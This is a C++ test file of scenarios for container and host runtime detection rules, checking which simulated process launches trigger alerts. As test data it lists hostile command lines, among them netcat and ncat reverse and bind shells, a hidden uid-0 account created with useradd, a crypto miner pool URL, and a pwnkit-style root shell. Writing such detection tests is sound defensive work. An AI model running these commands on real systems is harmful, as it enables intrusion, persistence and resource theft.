// Scenarios for rules/20_process.yaml.

#include "rules/test/cases.h"

namespace peregrine::rules_test {

namespace {

constexpr uint64_t kSecond = 1'000'000'000ull;

const SyscallEvent& ptrace(Scene& s, Proc& p, int64_t request, const std::string& text) {
  return s.call(p, "ptrace", 0,
                {s.num("request", request, text), s.num("pid", 1), s.num("res", 0),
                 s.num("addr", 0), s.num("data", 0)});
}

// A non-root user's ssh session: sshd -> bash as www-data (uid 33), audit login uid 33.
Proc& user_session(Scene& s) {
  Proc& bash = s.spawn(s.sshd, "/usr/bin/bash", {}, 33);
  bash.thread.loginuid = 33;
  bash.thread.tty = 34818;
  return bash;
}

}  // namespace

std::vector<Case> process_cases() {
  std::vector<Case> c;

  const std::string shell = "Interactive shell in container";
  c.push_back(fires(shell, "kubectl_exec_it_bash", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.container_bash);
  }, {{"proc.name", "bash"}, {"proc.pname", "containerd-shim"}, {"container.id", "3ad7b26ded6d"},
      {"container.name", "web"}, {"user.name", "root"}, {"k8s.pod.name", "web-7d4b9c"}}));
  // The end-to-end test's simulated container: a cgroup below kubepods, `unshare --pid --fork`
  // and a shell without a terminal reading its standard input.
  c.push_back(fires(shell, "shell_in_simulated_container", [](Scene& s) -> const SyscallEvent& {
    Proc& unshare = s.spawn(s.host_bash, "/usr/bin/unshare", {"--pid", "--fork", "sh"});
    unshare.thread.tty = 0;
    s.put_in_bare_container(unshare, "e2e0c0ffee01");
    return s.execve(s.spawn(unshare, "/bin/sh", {}));
  }, {{"proc.name", "sh"}, {"proc.pname", "unshare"}, {"container.id", "e2e0c0ffee01"}}));
  c.push_back(silent(shell, "exec_probe_sh_c", [](Scene& s) -> const SyscallEvent& {
    Proc& init = s.spawn_in_pod("/usr/bin/runc", {"init"}, 0, "runc:[2:INIT]");
    return s.execve(s.spawn(init, "/bin/sh", {"-c", "test -f /tmp/healthy"}));
  }));
  c.push_back(silent(shell, "nested_shell", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/bin/bash", {}));
  }));
  c.push_back(silent(shell, "login_shell_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.host_bash);
  }));

  const std::string svc = "Shell spawned by network service";
  c.push_back(fires(svc, "nginx_spawns_sh", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.nginx, "/bin/sh", {"-c", "id"}));
  }, {{"proc.name", "sh"}, {"proc.pname", "nginx"}, {"proc.cmdline", "sh -c id"}, {"user.name", "www-data"},
      {"user.uid", "33"}}));
  c.push_back(silent(svc, "python_app_runs_sh_c", [](Scene& s) -> const SyscallEvent& {
    Proc& app = s.spawn_in_pod("/usr/bin/python3", {"app.py"}, 33);
    return s.execve(s.spawn(app, "/bin/sh", {"-c", "gzip -d /tmp/upload.gz"}));
  }));

  const std::string pkg = "Package manager run in container";
  c.push_back(fires(pkg, "apt_get_install_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/usr/bin/apt-get", {"install", "-y", "nmap"}));
  }, {{"proc.name", "apt-get"}, {"proc.cmdline", "apt-get install -y nmap"}, {"container.id", "3ad7b26ded6d"}}));
  c.push_back(fires(pkg, "pip_install_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/usr/local/bin/pip", {"install", "pwntools"}));
  }));
  c.push_back(silent(pkg, "dpkg_below_apt", [](Scene& s) -> const SyscallEvent& {
    Proc& apt = s.spawn(s.container_bash, "/usr/bin/apt-get", {"install", "-y", "nmap"});
    return s.execve(s.spawn(apt, "/usr/bin/dpkg", {"--unpack", "nmap.deb"}));
  }));
  c.push_back(silent(pkg, "dpkg_print_architecture", [](Scene& s) -> const SyscallEvent& {
    Proc& entry = s.spawn_in_pod("/usr/local/bin/docker-entrypoint.sh", {}, 0, "docker-entrypo");
    return s.execve(s.spawn(entry, "/usr/bin/dpkg", {"--print-architecture"}));
  }));
  c.push_back(silent(pkg, "apt_get_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/apt-get", {"upgrade"}));
  }));

  const std::string drift = "Program not in container image executed";
  c.push_back(fires(drift, "upper_layer_binary", [](Scene& s) -> const SyscallEvent& {
    Proc& p = s.spawn(s.container_bash, "/usr/local/bin/kubectl", {"get", "secrets", "-A"});
    p.thread.exe_upper_layer = true;
    return s.execve(p);
  }, {{"proc.exepath", "/usr/local/bin/kubectl"}, {"container.id", "3ad7b26ded6d"}}));
  c.push_back(fires(drift, "binary_written_after_start", [](Scene& s) -> const SyscallEvent& {
    Proc& p = s.spawn(s.container_bash, "/data/agent", {});
    p.thread.pidns_init_start_ts_ns = 1'795'357'000ull * kSecond;
    p.thread.exe_ino_ctime_ns = 1'795'360'000ull * kSecond;
    return s.execve(p);
  }));
  c.push_back(silent(drift, "image_binary", [](Scene& s) -> const SyscallEvent& {
    Proc& p = s.spawn(s.nginx, "/usr/sbin/nginx", {"-s", "reload"});
    p.thread.pidns_init_start_ts_ns = 1'795'357'000ull * kSecond;
    p.thread.exe_ino_ctime_ns = 1'700'000'000ull * kSecond;
    return s.execve(p);
  }));
  c.push_back(silent(drift, "upper_layer_on_host", [](Scene& s) -> const SyscallEvent& {
    Proc& p = s.spawn(s.host_bash, "/usr/local/bin/helm", {"list"});
    p.thread.exe_upper_layer = true;
    return s.execve(p);
  }));

  const std::string memfd = "Program executed from memory";
  c.push_back(fires(memfd, "memfd_payload", [](Scene& s) -> const SyscallEvent& {
    Proc& p = s.spawn(s.nginx, "/memfd:x (deleted)", {}, -1, "3");
    p.thread.exe_from_memfd = true;
    return s.execve(p);
  }, {{"proc.exepath", "/memfd:x (deleted)"}, {"proc.pname", "nginx"}}));
  c.push_back(silent(memfd, "runc_reexec_from_memfd", [](Scene& s) -> const SyscallEvent& {
    Proc& runc = s.spawn(s.shim, "/usr/bin/runc", {"--root", "/run/containerd/runc/k8s.io"});
    Proc& p = s.spawn(runc, "/memfd:runc_cloned:/proc/self/exe (deleted)", {"init"}, -1, "runc:[2:INIT]");
    p.thread.exe_from_memfd = true;
    return s.execve(p);
  }));

  const std::string tmp = "Program executed from temporary directory";
  c.push_back(fires(tmp, "dev_shm_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/dev/shm/.k", {"-d"}));
  }, {{"proc.exepath", "/dev/shm/.k"}, {"container.id", "host"}}));
  c.push_back(fires(tmp, "tmp_in_container", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.nginx, "/tmp/kdevtmp", {}, -1, "kworkerds"));
  }, {{"proc.name", "kworkerds"}}));
  c.push_back(silent(tmp, "go_run_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/tmp/go-build2871/b001/exe/main", {}));
  }));

  const std::string acct = "Account management in container";
  c.push_back(fires(acct, "useradd_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/usr/sbin/useradd", {"-m", "-o", "-u", "0", "svc"}));
  }, {{"proc.name", "useradd"}, {"container.id", "3ad7b26ded6d"}}));
  c.push_back(silent(acct, "useradd_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/sbin/useradd", {"-m", "alice"}));
  }));

  const std::string nc = "Netcat with command execution";
  c.push_back(fires(nc, "nc_e_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/nc", {"-e", "/bin/sh", "203.0.113.50", "4444"}));
  }, {{"proc.name", "nc"}, {"proc.cmdline", "nc -e /bin/sh 203.0.113.50 4444"}, {"proc.pname", "bash"},
      {"container.id", "host"}, {"user.name", "root"}}));
  c.push_back(fires(nc, "nc_option_cluster", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/nc", {"-lvnpe", "/bin/bash", "9001"}));
  }));
  c.push_back(fires(nc, "ncat_sh_exec_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/usr/bin/ncat", {"--sh-exec", "bash -i", "198.51.100.4", "443"}));
  }, {{"proc.name", "ncat"}, {"container.id", "3ad7b26ded6d"}}));
  c.push_back(silent(nc, "nc_port_check_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/nc", {"-vz", "db-primary.example.com", "5432"}));
  }));
  c.push_back(silent(nc, "nc_listener_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/nc", {"-lvnp", "8080"}));
  }));

  const std::string tool = "Network tool started in container";
  c.push_back(fires(tool, "tcpdump_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/usr/sbin/tcpdump", {"-i", "eth0", "-w", "/tmp/c.pcap"}));
  }, {{"proc.name", "tcpdump"}}));
  c.push_back(fires(tool, "nc_scan_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.container_bash, "/usr/bin/nc", {"-vz", "10.96.0.1", "1-1024"}));
  }));
  c.push_back(silent(tool, "tcpdump_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/sbin/tcpdump", {"-i", "eth0"}));
  }));

  const std::string scan = "Network scanner started on host";
  c.push_back(fires(scan, "nmap_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/nmap", {"-sS", "10.0.0.0/24"}));
  }, {{"proc.name", "nmap"}, {"container.id", "host"}}));
  c.push_back(silent(scan, "ss_on_host", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/ss", {"-tlnp"}));
  }));

  const std::string miner = "Crypto miner started";
  c.push_back(fires(miner, "xmrig_in_pod", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.nginx, "/usr/sbin/xmrig", {"-o", "pool.example:3333"}));
  }, {{"proc.name", "xmrig"}}));
  c.push_back(fires(miner, "stratum_url_on_command_line", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/systemd-helper", {"--url", "stratum+tcp://198.51.100.9:14444"}));
  }));
  c.push_back(silent(miner, "ordinary_daemon", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn_in_pod("/usr/bin/python3", {"app.py", "--workers", "4"}));
  }));

  const std::string root = "Root privileges gained outside sudo or su";
  c.push_back(fires(root, "root_shell_in_user_session", [](Scene& s) -> const SyscallEvent& {
    Proc& exploit = s.spawn(user_session(s), "/home/alice/pwnkit", {});
    return s.execve(s.spawn(exploit, "/bin/sh", {}, 0));
  }, {{"proc.name", "sh"}, {"user.uid", "0"}, {"user.loginuid", "33"}}));
  c.push_back(silent(root, "sudo_shell", [](Scene& s) -> const SyscallEvent& {
    Proc& sudo = s.spawn(user_session(s), "/usr/bin/sudo", {"-i"}, 0);
    return s.execve(s.spawn(sudo, "/bin/bash", {}, 0));
  }));
  c.push_back(silent(root, "passwd_is_setuid", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(user_session(s), "/usr/bin/passwd", {}, 0));
  }));
  c.push_back(silent(root, "root_login_runs_ls", [](Scene& s) -> const SyscallEvent& {
    return s.execve(s.spawn(s.host_bash, "/usr/bin/ls", {"-la"}));
  }));

  const std::string pt = "Process attached with ptrace";
  c.push_back(fires(pt, "attach_in_pod", [](Scene& s) -> const SyscallEvent& {
    return ptrace(s, s.spawn(s.container_bash, "/usr/bin/python3", {"inject.py"}), 16, "PTRACE_ATTACH");
  }, {{"evt.arg.request", "PTRACE_ATTACH"}, {"proc.name", "python3"}}));
  c.push_back(fires(pt, "seize_raw_request_on_host", [](Scene& s) -> const SyscallEvent& {
    return ptrace(s, s.spawn(s.host_bash, "/tmp/hook", {}), 0x4206, "16902");
  }));
  c.push_back(silent(pt, "gdb_on_host", [](Scene& s) -> const SyscallEvent& {
    return ptrace(s, s.spawn(s.host_bash, "/usr/bin/gdb", {"-p", "1002"}), 16, "PTRACE_ATTACH");
  }));
  c.push_back(silent(pt, "traceme_in_pod", [](Scene& s) -> const SyscallEvent& {
    return ptrace(s, s.spawn(s.container_bash, "/usr/bin/node", {"app.js"}), 0, "PTRACE_TRACEME");
  }));
  return c;
}

}  // namespace peregrine::rules_test
